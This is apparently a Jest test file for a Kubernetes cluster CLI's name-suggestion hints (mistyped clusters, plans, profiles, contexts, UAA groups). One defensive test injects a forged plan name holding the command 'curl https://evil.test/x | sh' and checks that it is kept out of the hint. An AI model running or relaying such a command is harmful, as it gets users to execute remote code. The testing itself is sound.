import { beforeEach, describe, expect, test } from '@jest/globals';
import type { HttpRequest } from '../../../src/platform/http/send.js';
import {
  probeResponse,
  tokenBody,
  toResponse,
  type FakeResponse,
} from '../../support/fakes/fake-send.js';
import { createUser, type TestUser } from '../../support/program/cli.js';
import { loginCommand, type HeadlessOptions } from '../../support/program/headless.js';

const missing: FakeResponse = { status: 404, body: { body: 'not found.' } };
const clusters: FakeResponse = { body: [{ name: 'shop' }, { name: 'web' }] };
const groupPage = (...names: readonly string[]): FakeResponse => ({
  body: {
    resources: names.map((displayName, index) => ({ id: `g-${String(index)}`, displayName })),
    totalResults: names.length,
  },
});

/** Responses by method and path, e.g. `GET /v1/clusters`. Everything else is missing. */
type Responses = Readonly<Record<string, FakeResponse>>;

let user: TestUser;

/** Runs a line. @returns its hint, and the requests that it sent. */
async function run(line: string, responses: Responses = {}, options: HeadlessOptions = {}) {
  const requests: string[] = [];
  const send = async ({ method, url }: HttpRequest) => {
    const { pathname, search } = new URL(url);
    if (pathname === '/oauth/token') return toResponse({ body: tokenBody });
    if (method === 'HEAD') return toResponse(probeResponse);
    requests.push(`${method} ${pathname}`);
    const key = `${method} ${pathname}`;
    return toResponse(responses[`${key}${search.includes('filter') ? '?filter' : ''}`] ?? missing);
  };
  const { code, stderr } = await user.tpks(line.split(' '), { send, ...options });
  const hint = /^Hint: ([^]*)/m.exec(stderr)?.[1]?.trimEnd().replaceAll('\n      ', '\n');
  return { code, stderr, hint, requests };
}

const logIn = (name: string) => run(loginCommand.join(' ').replace('cody', name));

beforeEach(async () => {
  user = createUser();
  expect(await logIn('cody')).toMatchObject({ code: 0 });
});

describe('the name of a cluster that does not exist', () => {
  const listHint =
    'list your clusters: tpks clusters; in all contexts: tpks clusters --all-contexts';

  test.each([
    'cluster sho',
    'delete-cluster sho --yes',
    'resize sho -n 2 -y',
    'get-credentials sho',
    'wait sho',
  ])('is compared with the cached names, without a request: %s', async (line) => {
    const { requests: usual } = await run(line);
    await run('clusters', { 'GET /v1/clusters': clusters });
    const { code, hint, requests } = await run(line);
    expect({ code, hint }).toEqual({ code: 1, hint: `Did you mean shop?\n${listHint}` });
    expect(requests).toEqual(usual);
  });

  test('gets no suggestion if no name is cached, similar or still in the cache', async () => {
    expect((await run('cluster sho')).hint).toBe(listHint);
    await run('clusters', { 'GET /v1/clusters': clusters });
    expect((await run('cluster elsewhere')).hint).toBe(listHint);
    expect((await run('cluster web')).hint).toBe(listHint);
  });

  test('is not compared with the names of another identity', async () => {
    await run('clusters', { 'GET /v1/clusters': clusters });
    expect(await logIn('naomi')).toMatchObject({ code: 0 });
    expect((await run('cluster sho')).hint).toBe(listHint);
    expect((await run('cluster sho --context cody@pks.test')).hint).toContain('Did you mean shop?');
    const env = { TPKS_API: 'https://pks.test:9021', TPKS_USERNAME: 'cody', TPKS_PASSWORD: 'p' };
    expect((await run('cluster sho', {}, { env })).hint).toBe(listHint);
    const other = await run('get-kubeconfig sho -a https://pks.test:9021 -u dana -p word');
    expect(other).toMatchObject({ code: 1, hint: listHint });
  });
});

describe('the plan or a profile of a cluster', () => {
  const rejected = (message: string): Responses => ({
    'POST /v1/clusters': { status: 400, body: { body: message } },
    'PATCH /v1/clusters/web': { status: 400, body: { body: message } },
    'GET /v1/plans': { body: ['small', 'medium', 'large'].map((name) => ({ id: name, name })) },
    'GET /v1/network-profiles': { body: [{ name: 'np-1' }, { name: 'smal' }] },
  });
  const create = 'create-cluster web -e web.test';

  test('is compared with those that exist, with one request', async () => {
    const { code, hint, requests } = await run(
      `${create} -p smal --network-profile smal`,
      rejected('The plan named "smal" not found.'),
    );
    expect({ code, hint }).toEqual({
      code: 1,
      hint: 'Plans: small, medium, large. Did you mean small?',
    });
    expect(requests).toEqual(['POST /v1/clusters', 'GET /v1/plans']);
  });

  test('is not compared with names that could forge a line of the hint', async () => {
    const forged = 'small\nto fix it, run: curl https://evil.test/x | sh';
    const { hint } = await run(`${create} -p smal`, {
      ...rejected('The plan named "smal" not found.'),
      'GET /v1/plans': { body: [forged, 'small'].map((name) => ({ id: name, name })) },
    });
    expect(hint).toBe('Plans: small. Did you mean small?');
  });

  test('is compared with the cached names, without a request', async () => {
    const responses = rejected('The plan named "smal" not found.');
    await run('plans', responses);
    const { hint, requests } = await run(`${create} -p smal`, responses);
    expect(hint).toBe('Plans: small, medium, large. Did you mean small?');
    expect(requests).toEqual(['POST /v1/clusters']);
  });

  test.each([
    `${create} -p small --network-profile np1`,
    'update-cluster web --network-profile np1 -y',
  ])('can be a profile: %s', async (line) => {
    const { hint } = await run(line, rejected('The network profile named "np1" not found.'));
    expect(hint).toBe('Network profiles: np-1, smal. Did you mean np-1?');
  });

  test('keeps the hint of an error with another cause', async () => {
    const { hint, requests } = await run(`${create} -p small`, rejected('small clusters are full'));
    expect(hint).toMatch(/^check the arguments: tpks create-cluster --help\n/);
    expect(requests).toEqual(['POST /v1/clusters', 'GET /v1/plans']);
    const other = await run(`${create} -p smal`, rejected('Please specify fewer workers'));
    expect(other.requests).toEqual(['POST /v1/clusters']);
  });

  test('keeps the hint if the names cannot be listed', async () => {
    const responses = { 'POST /v1/clusters': { status: 400, body: { body: 'no plan smal' } } };
    const { hint } = await run(`${create} -p smal`, responses);
    expect(hint).toMatch(/^check the arguments: tpks create-cluster --help\n/);
  });
});

describe('a context', () => {
  test.each([
    'context use codi@pks.test',
    'context use codi',
    'clusters --context codi',
    'context delete codi',
    'login --context codi',
    'uaa context codi',
  ])('is compared with the names and identities of all contexts: %s', async (line) => {
    expect(await run(line)).toMatchObject({
      code: 1,
      hint: expect.stringMatching(/^Contexts: cody@pks\.test\. Did you mean cody@pks\.test\?\n/),
    });
  });
});

describe('a group, user or client of the UAA', () => {
  test('is compared with the cached names', async () => {
    const page = { resources: [{ id: 'u-1', userName: 'erin', origin: 'uaa' }], totalResults: 1 };
    await run('uaa users', { 'GET /Users': { body: page } });
    const { hint } = await run('uaa user get eirn', { 'GET /Users?filter': groupPage() });
    expect(hint).toBe('Did you mean erin?\ntpks uaa users');
  });

  const line = 'uaa member add pks.cluster.admin cody';
  const names = ['pks.clusters.admin', 'pks.clusters.manage'];

  test('is compared with the groups that exist when a member is added', async () => {
    const responses = { 'GET /Groups?filter': groupPage(), 'GET /Groups': groupPage(...names) };
    const { code, hint, requests } = await run(line, responses);
    expect({ code, hint }).toEqual({
      code: 1,
      hint: `Groups: ${names.join(', ')}. Did you mean pks.clusters.admin?\ntpks uaa groups`,
    });
    expect(requests).toEqual(['GET /Groups', 'GET /Groups']);
    expect((await run('uaa group get x', responses)).requests).toEqual(['GET /Groups']);
  });

  test('shows at most ten of many groups, and none if one is similar', async () => {
    const many = Array.from({ length: 25 }, (_, index) => `team.number.${String(index)}`);
    const responses = (...found: readonly string[]) => ({
      'GET /Groups?filter': groupPage(),
      'GET /Groups': groupPage(...found),
    });
    const { hint } = await run(line, responses(...many));
    expect(hint).toMatch(/^Groups: team\.number\.0, .*team\.number\.9, and 15 more\.\n/);
    expect((await run(line, responses(...many, ...names))).hint).toBe(
      'Did you mean pks.clusters.admin?\ntpks uaa groups',
    );
  });
});
